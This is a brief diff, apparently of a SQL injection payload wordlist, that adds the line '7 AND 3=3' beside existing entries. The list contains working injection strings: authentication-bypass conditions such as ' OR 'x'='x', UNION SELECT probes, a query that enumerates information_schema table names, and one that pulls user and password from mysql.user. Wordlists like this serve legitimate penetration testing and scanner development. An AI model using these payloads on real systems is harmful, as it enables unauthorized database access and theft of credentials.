@@ -24,6 +24,7 @@ admin' #
 ' OR 'x'='x' /*
 ") or ("a"="a
 1) OR (1=1
+7 AND 3=3
 1 UNION SELECT NULL,NULL,NULL--
 -1' UNION ALL SELECT 1,group_concat(table_name),3 FROM information_schema.tables-- -
 0 union select user,password from mysql.user
